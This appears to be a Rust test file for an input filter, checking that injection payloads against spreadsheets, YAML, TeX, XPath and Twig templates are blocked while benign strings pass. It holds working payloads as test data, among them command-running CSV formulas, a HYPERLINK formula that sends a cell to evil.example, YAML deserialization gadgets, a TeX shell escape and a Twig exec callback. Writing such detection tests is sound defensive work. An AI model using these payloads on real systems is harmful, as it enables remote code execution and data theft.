//! Injections into formats a downstream program evaluates: spreadsheet
//! formulas, YAML object tags, TeX's shell escape, XPath, Twig's sandbox.

use super::*;

#[test]
fn spreadsheet_formulas_that_leave_the_sheet_block() {
    blocks(query("name=%3Dcmd%7C%27%20%2FC%20calc%27%21A0"), Class::Generic);
    blocks(json(r#"{"name":"@SUM(1+1)*cmd|' /C calc'!A0"}"#), Class::Generic);
    blocks(json(r#"{"name":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")"}"#), Class::Generic);
    // A formula that stays in the sheet, and a pipe in prose, are data.
    passes(json(r#"{"cell":"=SUM(A1:A9)","note":"a|b 'quoted' ! done"}"#));
}

#[test]
fn yaml_tags_that_build_objects_block() {
    blocks(json(r#"{"config":"!!python/object/apply:os.system [\"id\"]"}"#), Class::Generic);
    blocks(text("--- !ruby/object:Gem::Installer\ni: x\n"), Class::Generic);
    blocks(query("y=!!javax.script.ScriptEngineManager%20[]"), Class::Generic);
    passes(json(r#"{"config":"--- !!map\nkey: !!str value\n"}"#));
}

#[test]
fn tex_shell_escape_blocks() {
    blocks(json(r#"{"title":"\\immediate\\write18{id}"}"#), Class::Rce);
    passes(json(r#"{"title":"\\textbf{Write} 18 lines"}"#));
}

#[test]
fn xpath_predicates_closed_by_a_value_block() {
    blocks(query("user=%27%29%5D%20%7C%20%2F%2Fuser%2F%2A%5Bcontains%28%2A%2C%27"), Class::Sqli);
    blocks(query("user=%27%5D%2F..%2F%2A%5Bcontains(.,%27admin%27)%5D%7C%2F%2F%2A%5B%27"), Class::Sqli);
    blocks(query("user=doc(%27http%3A%2F%2Fevil.example%2Fx%27)"), Class::Sqli);
    // An array closed before a JavaScript comment is code, not a path.
    messages_pass(&["const keys = ['k1', 'v1'] // then the rest", "[\"Choice A\", \"choice B\"] // shown"]);
}

#[test]
fn twig_sandbox_escapes_block() {
    blocks(query("t=%7B%7B_self.env.registerUndefinedFilterCallback(%22exec%22)%7D%7D"), Class::Template);
}
